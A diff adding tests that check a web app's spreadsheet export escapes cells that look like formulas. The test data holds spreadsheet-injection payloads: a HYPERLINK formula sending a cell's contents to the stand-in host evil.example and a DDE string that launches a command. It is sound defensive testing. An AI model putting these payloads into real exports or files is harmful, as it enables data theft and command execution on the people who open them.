@@ -68,3 +68,30 @@ def test_home_sends_each_role_to_its_page(login):
     ]:
         response = login(user).get(reverse("home"))
         assert response.status_code == 302 and response.url == reverse(name)
+
+
+def test_ledger_cells_that_look_like_formulas_stay_text(login, district, log_call):
+    planted = {
+        "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+        "address": "+1+cmd|' /C calc'!A0",
+        "description": "-2+3",
+        "caller_name": "@SUM(A1:A9)",
+    }
+    log_call(title=planted["title"], address=planted["address"], description=planted["description"])
+    log_call(caller_name=planted["caller_name"])
+    response = login("supervisor").get(reverse("web:orders_export"), {"figure": "volume"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert "'" + planted["title"] in values and "'" + planted["address"] in values
+    assert "'-2+3" not in values  # the description is not exported; the masked name is:
+    assert any(isinstance(v, str) and v.startswith("'@") for v in values)
+    dangerous = tuple("=+-@\t\r")
+    assert not [v for v in values if isinstance(v, str) and v.startswith(dangerous)]
+
+
+def test_tabs_and_returns_at_the_start_are_escaped_too():
+    from web.ledger import cell_text
+
+    assert [cell_text(v) for v in ("\tx", "\r=1", "ok", "a=b", 3, None)] == ["'\tx", "'\r=1", "ok", "a=b", 3, None]
